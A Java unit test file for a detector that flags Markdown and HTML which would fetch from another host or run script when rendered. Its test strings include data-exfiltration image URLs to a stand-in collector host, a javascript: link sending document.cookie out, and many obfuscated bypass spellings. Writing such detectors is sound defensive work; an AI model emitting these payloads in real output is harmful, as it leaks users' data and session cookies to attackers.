package dev.bastion.detect.markup;

import static org.assertj.core.api.Assertions.assertThat;

import dev.bastion.detect.Finding;
import dev.bastion.egress.DomainPattern;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.Test;

/**
 * What a renderer would fetch from elsewhere, read as renderers and browsers read it: every spelling that moves a
 * URL to another host is an attack here, and every image that stays on the page's origin or a listed host passes.
 */
class ActiveMarkupTest {
    static final ActiveMarkup IMAGES = new ActiveMarkup(List.of(DomainPattern.parse("cdn.example.com"), DomainPattern.parse("*.images.example.org")));

    static List<Finding> scan(String text, boolean complete) {
        List<Finding> out = new ArrayList<>();
        IMAGES.scan(text, complete, out);
        return out;
    }

    static List<String> found(String text) {
        return scan(text, true).stream().map(f -> text.substring(f.start(), f.end())).toList();
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "![x](https://collector.example.net/c?d=the+summary)",
            "![x](https://collector.example.net/a \"a title\")",
            "![x](https://collector.example.net/a 'a title')",
            "![x](https://collector.example.net/a (a title))",
            "![x](<https://collector.example.net/a b>)",
            "![a [nested] alt](https://collector.example.net/)",
            "![x](//collector.example.net/a)",
            "![x](/\\collector.example.net/a)",                    // a browser reads \ as / in an http URL
            "![x](HTTPS://COLLECTOR.example.NET/)",
            "![x](<ht\ttps://collector.example.net/>)",            // tabs and newlines are removed from URLs
            "![x](&#104;ttps://collector.example.net/)",           // character references are decoded in destinations
            "![x](&#x68;ttps://collector.example.net/)",
            "![x](https&colon;//collector.example.net/)",
            "![x](https\\://collector.example.net/)",             // a backslash escape
            "![x](https://cdn.example.com@collector.example.net/)", // the listed host as user info
            "<img src=\"https://collector.example.net\\@cdn.example.com/\">", // in HTML \ is no escape: a browser reads it as /
            "![x](https://collector.example.net\\@cdn.example.com/)", // CommonMark unescapes \@ (user info); a renderer that does not, not
            "![x](https://cdn.example.com.collector.example.net/)",
            "![x](https://cdn.exampl\u0435.com/)",                   // a Cyrillic e: another host (xn--)
            "![x](https://ev%69l.example.net/)",
            "![x](https://[::1/)",                                  // does not parse: some renderer may repair it
            "![x](file://collector.example.net/share/a.png)",      // SMB on Windows
            "![x](http://169.254.169.254/latest)",
            "![x](http://0x7f.1/)",
            "![x](https://images.example.org/)",                   // *.images.example.org does not cover the apex
            "![x](&ImaginaryI;mage)",                              // a reference this decoder does not know: unknown
            "![x]( https://collector.example.net/ )",
            "![x](\nhttps://collector.example.net/)",
            "[logo]: https://collector.example.net/logo.png",     // a reference image may use it, before or after
            "  [logo]: <https://collector.example.net/logo.png> \"Logo\"",
            "<img src=\"https://collector.example.net/p.gif\">",
            "<IMG SRC=https://collector.example.net/p.gif>",
            "<img\nalt='a > b' src='https://collector.example.net/p.gif'/>",
            "<img src=&#x68;ttps://collector.example.net/>",
            "<img src=\"https&colon;&sol;&sol;collector.example.net/\">",
            "<img srcset=\"/a.png 1x, https://collector.example.net/b.png 2x\">",
            "<picture><source srcset=\"https://collector.example.net/b.webp\"></picture>",
            "<video poster=\"https://collector.example.net/\"></video>",
            "<iframe src=\"https://collector.example.net/\"></iframe>",
            "<link rel=stylesheet href=https://collector.example.net/s.css>",
            "<svg><image href=\"https://collector.example.net/i.svg\"/></svg>",
            "<div style=\"background:url('https://collector.example.net/x')\">text</div>",
            "<span style=\"background-image: image-set('https://collector.example.net/x' 1x)\">t</span>",
            "<div style=\"background:u\\72l(https://collector.example.net/x)\">t</div>", // a CSS escape: unknown
            "<table background=\"https://collector.example.net/t.png\">",
            "<base href=\"https://collector.example.net/\">",              // every relative URL after it goes there
            "<meta http-equiv=\"refresh\" content=\"0; url=https://collector.example.net/?d=1\">",
    })
    void reportsMarkupThatFetchesFromAnotherHost(String text) {
        List<Finding> f = scan(text, true);
        assertThat(f).as(text).isNotEmpty();
        assertThat(f).allSatisfy(x -> {
            assertThat(x.type()).isEqualTo(text.startsWith("<") || text.startsWith("  <") ? ActiveMarkup.REMOTE_HTML : ActiveMarkup.REMOTE_IMAGE);
            assertThat(x.category()).isEqualTo(Finding.Category.MARKUP);
        });
        // the finding covers the URL, so redacting it leaves nothing to fetch
        int host = text.toLowerCase().indexOf("collector");
        if (host >= 0) assertThat(f).anySatisfy(x -> assertThat(x.start()).isLessThanOrEqualTo(host).as(text));
        if (host >= 0) assertThat(f).anySatisfy(x -> assertThat(x.end()).isGreaterThan(host));
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "![x](/img/a.png)", "![x](img/a.png)", "![x](?q=1)", "![x](#top)", "![x]()",
            "![x](data:image/png;base64,iVBORw0KGgo=)",
            "![x](https://cdn.example.com/logo.png)",
            "![x](https://CDN.example.com./logo.png)",
            "![x](https://a.images.example.org/1.png)",
            "![x](https://cdn.example.com/a?x=1&b=2)",              // "&b" is no reference without its ';'
            "![x](<https://cdn.example.com/a b.png> \"t\")",
            "[a link](https://collector.example.net/)",              // a link is followed on a click, not on render
            "<a href=\"https://collector.example.net/\">a link</a>",
            "for (int i = 0; i<n; i++) { sum += a[i]; }",
            "List<String> names = new ArrayList<>();",
            "if a < b and c > d",
            "See [1] and [the docs] for more; ![ is how an image starts.",
            "<img src=\"/local.png\"><img src='data:image/gif;base64,R0lGOD'>",
            "<div style=\"color: red\">x</div>",
            "[label]: /relative/target",
            "Note [1]: see below",
            "",
    })
    void passesWhatStaysOnTheOriginOrAListedHost(String text) {
        assertThat(scan(text, true)).as(text).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "[Verify your account](javascript:fetch('//collector.example.net/?c='+document.cookie))",
            "[x](JavaScript:alert(1))",
            "[x](  javascript:alert(1))",
            "[x](<java\tscript:alert(1)>)",                          // tabs are removed from URLs
            "[x](&#106;avascript:alert(1))",                       // character references are decoded
            "[x](javascript&colon;alert(1))",
            "[x](vbscript:msgbox(1))",
            "[x](javascript:alert(1) \"Click me\")",
            "[ref]: javascript:alert(1)",                           // a definition a reference link may use
            "[![badge](/ok.png)](javascript:alert(1))",               // a linked image: the link runs script
    })
    void reportsLinksThatRunScript(String text) {
        assertThat(scan(text, true)).as(text).anySatisfy(f -> assertThat(f.type()).isEqualTo(ActiveMarkup.SCRIPT_LINK));
    }

    @ParameterizedTest
    @ValueSource(strings = {"[docs](https://docs.python.org/3/)", "[x](javascript.html)", "[x](/javascript:alert)", "[x](./javascript:x)",
            "<a href=\"javascript:void(0)\">menu</a>", "Use `javascript:` URLs sparingly", "[x](mailto:a@example.com)",
            "[x](java\\script:alert(1))",                          // "\\s" is no escape: a relative URL to a browser
            "[a &mdash; b](https://docs.example.com/a&mdash;b)"})  // a reference the decoder does not know spells no scheme
    void passesLinksThatDoNot(String text) {
        assertThat(scan(text, true)).as(text).noneSatisfy(f -> assertThat(f.type()).isEqualTo(ActiveMarkup.SCRIPT_LINK));
    }

    @Test
    void aLinkIsHeldWhileItCouldStillBecomeAScriptLinkOnly() {
        assertThat(scan("see [x](java", false)).singleElement().satisfies(f -> assertThat(f.start()).isEqualTo(4));
        assertThat(scan("see [x](javascript:alert(1) \"ti", false)).singleElement().satisfies(f -> assertThat(f.type()).isEqualTo(ActiveMarkup.SCRIPT_LINK));
        assertThat(scan("see [x](https://docs.exa", false)).as("an ordinary link flows").isEmpty();
        assertThat(scan("see [x](https://docs.example.com/ \"ti", false)).isEmpty();
    }

    @Test
    void theSpanIsTheWholeMarkup() {
        String text = "Here: ![chart](https://collector.example.net/c?d=1 \"t\") and more.";
        assertThat(found(text)).containsExactly("![chart](https://collector.example.net/c?d=1 \"t\")");
        String html = "a <img alt=x src=https://collector.example.net/p> b";
        assertThat(found(html)).containsExactly("<img alt=x src=https://collector.example.net/p>");
        assertThat(found("x ![a](https://collector.example.net/1) y ![b](/ok.png) z ![c](//collector.example.net/2)"))
                .containsExactly("![a](https://collector.example.net/1)", "![c](//collector.example.net/2)");
    }

    /** Spans never overlap, so each can be redacted on its own (overlapping rewrites would break the stream's rendering). */
    @Test
    void nestedMarkupIsOneSpan() {
        String nested = "a ![x ![y](https://collector.example.net/1) z](https://collector.example.net/2) b";
        assertThat(found(nested)).containsExactly("![x ![y](https://collector.example.net/1) z](https://collector.example.net/2)");
        String inside = "a <img alt=\"![y](https://collector.example.net/1)\" src=\"https://collector.example.net/2\"> b";
        assertThat(found(inside)).containsExactly("<img alt=\"![y](https://collector.example.net/1)\" src=\"https://collector.example.net/2\">");
        // a renderer that escapes HTML still shows the Markdown image inside it: the span is the image's type, not HTML's
        assertThat(scan(inside, true)).singleElement().satisfies(f -> assertThat(f.type()).isEqualTo(ActiveMarkup.REMOTE_IMAGE));
        for (String text : List.of(nested, inside, "<div style=\"background:url(https://collector.example.net/1)\">![y](https://collector.example.net/2)</div>")) {
            List<Finding> f = scan(text, true);
            for (int i = 1; i < f.size(); i++) assertThat(f.get(i).start()).as(text).isGreaterThanOrEqualTo(f.get(i - 1).end());
        }
    }

    @Test
    void aReferenceImageIsCaughtByItsDefinitionWhereverItStands() {
        String text = "![chart][c]\n\nMore text.\n\n[c]: https://collector.example.net/?d=secret\n";
        assertThat(found(text)).containsExactly("[c]: https://collector.example.net/?d=secret");
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "Look: ![chart](https://collector.example.net/c?d=sec",
            "Look: ![chart](https://collector.example.net/c?d=sec \"tit",
            "Look: ![cha",
            "Look: ![chart]",
            "Look: ![chart](",
            "[c]: https://collector.exa",
            "[c",
            "<img src=\"https://collector.exa",
            "<im",
            "<div style=\"background:url(https://collector",
    })
    void unfinishedMarkupIsHeldFromItsStartWhileStreaming(String text) {
        int opener = text.contains("![") ? text.indexOf("![") : text.contains("<") ? text.indexOf('<') : text.indexOf('[');
        assertThat(scan(text, false)).as(text).anySatisfy(x -> {
            assertThat(x.start()).isEqualTo(opener);
            assertThat(x.end()).isEqualTo(text.length());
        });
    }

    @Test
    void finishedTextHoldsNothingBack() {
        assertThat(scan("Look: ![cha", true)).isEmpty();
        assertThat(scan("Look: ![chart](/local", true)).isEmpty();
        assertThat(scan("<img src=\"/local.png\"", true)).isEmpty();
        assertThat(scan("Look: ![chart](https://collector.example.net/x", true)).hasSize(1);
        // while streaming, a finished local image and an unfinished tag that cannot fetch hold nothing
        assertThat(scan("![x](/a.png) and", false)).isEmpty();
        assertThat(scan("a <span class=", false)).as("any unfinished tag is held: a style attribute may yet come").singleElement()
                .satisfies(f -> assertThat(f.start()).isEqualTo(2));
        assertThat(scan("a <span class=", true)).isEmpty();
    }

    @Test
    void unfinishedMarkupIsHeldOnlySoLong() {
        String text = "![" + "a".repeat(ActiveMarkup.MAX_PENDING * 2);
        List<Finding> f = scan(text, false);
        assertThat(f).singleElement().satisfies(x -> {
            assertThat(x.start()).isZero();
            assertThat(x.end()).isEqualTo(ActiveMarkup.MAX_PENDING); // decided (redacted) as it stands; the opener goes with it
        });
    }

    @Test
    void timeGrowsLinearlyWithTheText() {
        String[] units = {"![[[", "![a](b \"", "![a](<b", "<img src=\"x", "[x]: <", "&#104;", "<div style=\"url(url(url(", "![a](https://c.d/("};
        for (String unit : units) {
            long small = time(unit.repeat(2_000)), large = time(unit.repeat(16_000));
            assertThat(large).as(unit).isLessThan(Math.max(small, 1_000_000) * 30);
        }
        // one tag whose single style attribute holds every "url(" of the text, none of them closed
        for (String unit : new String[] {"url(", "url(x", "image-set(\"a"}) {
            long small = time("<div style=\"" + unit.repeat(2_000) + "\">"), large = time("<div style=\"" + unit.repeat(16_000) + "\">");
            // 8x the text: a linear scan takes ~8x; a quadratic one 64x. Generous for a noisy machine.
            assertThat(large).as(unit).isLessThan(Math.max(small, 1_000_000) * 30);
        }
    }

    private static long time(String text) {
        long best = Long.MAX_VALUE;
        for (int i = 0; i < 5; i++) {
            long t0 = System.nanoTime();
            scan(text, true);
            scan(text, false);
            best = Math.min(best, System.nanoTime() - t0);
        }
        return best;
    }

    @Test
    void decodesCharacterReferencesAsABrowserDoes() {
        assertThat(ActiveMarkup.decodeReferences("&#104;&#x74;tps&colon;&sol;&sol;a")).isEqualTo("https://a");
        assertThat(ActiveMarkup.decodeReferences("&#104ttps")).isEqualTo("https"); // numeric ones need no ';'
        assertThat(ActiveMarkup.decodeReferences("a?x=1&b=2&amp;c=3")).isEqualTo("a?x=1&b=2&c=3");
        assertThat(ActiveMarkup.decodeReferences("&unknownname;")).isNull();
        assertThat(ActiveMarkup.decodeReferences("&#0;")).isEqualTo("\uFFFD");
    }
}
